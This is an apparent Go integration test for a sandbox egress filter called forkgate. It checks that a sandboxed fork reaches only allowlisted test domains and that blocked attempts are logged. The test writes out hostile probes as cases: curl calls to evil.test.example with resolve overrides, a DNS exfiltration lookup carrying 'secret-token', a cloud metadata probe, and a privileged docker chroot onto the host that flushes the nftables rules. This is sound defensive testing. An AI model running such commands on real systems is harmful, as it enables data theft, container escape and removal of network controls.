package host_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"forkgate/tests/host"
	"forkgate/tests/machine"
	"forkgate/tests/need"
)

// named is where forks of this test may go by name: what answers at 93.184.217.9 in the world behind the uplink, by TLS and HTTP.
const named = `["api.test.example:443", "api.test.example:80", "*.down.test.example:80", "inner.test.example:80", "host.test.example:80", "near.test.example:80"]`

// A fork reaches what is open to it by name, in sessions and containers, and nothing else, whoever its root is: it has no link. The record tells.
func TestEgressByName(t *testing.T) {
	t.Parallel()
	need.Tools(t, "ip", "nft", "busybox", "python3", "openssl", "curl")
	h := host.Start(t, host.Options{People: []string{"alice"}, Agents: []string{"bot"}})
	world := worldOfNames(t, h)
	h.Must(t, "sed", "-i", `s|egress = \[\]|egress = `+named+`|`, "/etc/forkgate/policy.d/baseline.hcl")
	h.Must(t, "sh", "-ec", "forkgate policy check; systemctl reload forkgate-warden; mkdir -p /root/data/nft; cp "+world+"/cert.pem /root/data/; cp $(command -v nft) $(ldd $(command -v nft) | grep -o '/[^ ]*') /root/data/nft/")
	h.Repo(t, "demo", "/root/data")
	imports(t, h, "demo+x@bot")
	in := func(command string) machine.Result {
		return machine.RunCommand(t, h.SSH(t.Context(), "demo+x@bot", command))
	}
	for _, c := range opened {
		if r := in(c.command); r.Stdout != c.want {
			t.Errorf("%s: %d, %q, %q", c.what, r.Code, r.Stdout, r.Stderr)
		}
	}
	for _, c := range closed {
		begun := time.Now()
		r := in(c.command)
		if got := r.Stdout + r.Stderr; strings.Contains(got, "world") || !strings.Contains(got, c.want) || time.Since(begun) > 5*time.Second {
			t.Errorf("%s: %q after %s, want %q", c.what, got, time.Since(begun), c.want)
		}
	}
	// The controls: the host itself reaches what the fork does not.
	for _, url := range []string{"http://evil.test.example/", "http://93.184.217.9/", "http://inner.test.example/", "http://near.test.example/"} {
		if r := h.Run(t.Context(), t, "curl", "-s", "--max-time", "5", url); r.Stdout != "world\n" {
			t.Errorf("control: the host asks for %s: %d %q", url, r.Code, r.Stdout)
		}
	}
	recorded(t, h)
	if asked := h.Must(t, "cat", world+"/asked"); strings.Contains(asked, "secret-token") || !strings.Contains(asked, "api.test.example") {
		t.Errorf("the world was asked for %s", asked)
	}
	// What is killed comes back, and fetches go on.
	h.Must(t, "systemctl", "kill", "-s", "KILL", "forkgate-egress.service")
	if r := in("curl -s --max-time 10 http://api.test.example/"); r.Stdout != "world\n" {
		t.Errorf("after a kill: %d %q %q", r.Code, r.Stdout, r.Stderr)
	}
	if got := h.Must(t, "sh", "-c", "ps -o user:20= -p $(systemctl show -P MainPID forkgate-egress); ip -o link | grep -c ': fg' || true"); got != "forkgate-egress\n0" {
		t.Errorf("it runs as %s", got)
	}
	// Its root takes the rules away, and is the one who reaches less.
	r := in(rootOfPod + `'cd /srv/*/nft; nft() { ./ld-linux-* --library-path . ./nft "$@"; }; nft list ruleset | grep -c "ip forkgate"; nft flush ruleset; ip route; nft list ruleset | wc -l; curl -sS --max-time 3 http://93.184.217.9/; curl -sS --max-time 3 -k https://93.184.217.9/; ip link | grep -c ": eth0"'`)
	if got := r.Stdout + r.Stderr; strings.Contains(got, "world") || !strings.Contains(r.Stdout, "default dev lo") || !strings.HasPrefix(r.Stdout, "1\n") || !strings.HasSuffix(r.Stdout, "\n0\n0\n") {
		t.Errorf("without rules: %q", got)
	}
}

// rootOfPod has a program of the fork's rootfs run by the root of its network.
const rootOfPod = "docker run --rm --privileged --net=host -v /:/host bb busybox chroot /host sh -c "

// opened is what a fork reaches.
var opened = []struct{ what, command, want string }{
	{"a session, by TLS", "curl -s --max-time 10 --cacert cert.pem https://api.test.example/", "world\n"},
	{"a session, by HTTP", "curl -s --max-time 10 http://api.test.example/", "world\n"},
	{"below a domain", "curl -s --max-time 10 http://a.down.test.example/", "world\n"},
	{"a container, by HTTP", "docker run --rm bb wget -q -O - http://api.test.example/", "world\n"},
	{"a container with the pod's network", "docker run --rm --net=host bb wget -q -O - http://api.test.example/", "world\n"},
}

// closed is what it does not, and what whoever tries hears.
var closed = []struct{ what, command, want string }{
	{"another name", "curl -sS --max-time 5 http://evil.test.example/", "Could not resolve"},
	{"another name, by an address that is known", "curl -sS --max-time 5 -k --resolve evil.test.example:443:93.184.217.9 https://evil.test.example/", "access denied"},
	{"the same by HTTP", "curl -s --max-time 5 --resolve evil.test.example:80:93.184.217.9 http://evil.test.example/", "is not open to this pod"},
	{"an address alone", "curl -s --max-time 5 http://93.184.217.9/", "is not open to this pod"},
	{"another port", "curl -sS --max-time 5 http://api.test.example:8080/", "Could not connect"},
	{"a name of the network within", "curl -sS --max-time 5 --resolve inner.test.example:80:93.184.217.9 http://inner.test.example/", "none that is public"},
	{"a name of a neighbour", "curl -sS --max-time 5 --resolve near.test.example:80:93.184.217.9 http://near.test.example/", "none that is public"},
	{"a name of this host", "curl -sS --max-time 5 --resolve host.test.example:80:93.184.217.9 http://host.test.example/", "none that is public"},
	{"the metadata service", "curl -sS --max-time 5 http://169.254.169.254/", "Could not connect"},
	{"by UDP", "timeout 4 python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((\"93.184.217.9\", 443)); s.send(b\"x\"); print(s.recv(9))'", "Error"},
	{"a secret in a question", "getent hosts secret-token.evil.test.example || echo unknown", "unknown"},
}

// recorded sees that the record has what was tried.
func recorded(t *testing.T, h *host.Host) {
	t.Helper()
	for _, want := range []string{
		`"ref":"demo:x".*"forward":"evil.test.example:443"`, `"forward":"evil.test.example:80"`, `"forward":"secret-token.evil.test.example"`, `"forward":"inner.test.example:80".*none that is public`,
	} {
		need.Eventually(t, "the record of "+want, func() bool {
			return h.Run(t.Context(), t, "grep", "-q", `"event":"egress".*`+want, "/var/lib/forkgate/audit/audit.jsonl").Code == 0
		})
	}
}

// worldOfNames makes a network behind an uplink: a server of names, and one of pages by TLS and HTTP, which answers at two addresses. It returns the
// directory in which it keeps what it was asked.
func worldOfNames(t *testing.T, h *host.Host) string {
	t.Helper()
	const dir = "/root/world"
	program, err := os.ReadFile(filepath.Join("testdata", "world.py"))
	if err != nil {
		t.Fatal(err)
	}
	h.Must(t, "sh", "-ec", `mkdir -p `+dir+`; cat >`+dir+`/world.py <<'END'
`+string(program)+`
END
cd `+dir+`; openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -days 2 -subj /CN=api.test.example -addext subjectAltName=DNS:api.test.example 2>/dev/null
ip netns add world; ip link add up0 type veth peer name far0 netns world
ip address add 93.184.216.2/24 dev up0; ip link set up0 up; ip route add default via 93.184.216.1
ip netns exec world sh -ec 'ip link set lo up; ip address add 93.184.216.1/24 dev far0; ip link set far0 up; for a in 93.184.217.9 1.1.1.1 10.9.9.9 169.254.169.254; do ip address add $a/32 dev lo; done'
rm -f /etc/resolv.conf; echo nameserver 1.1.1.1 >/etc/resolv.conf
systemd-run --quiet --unit world -p NetworkNamespacePath=/run/netns/world -p WorkingDirectory=`+dir+` python3 world.py
for i in $(seq 100); do curl -s --max-time 1 http://93.184.217.9/ && exit 0; sleep 0.1; done; exit 1`)
	return dir
}
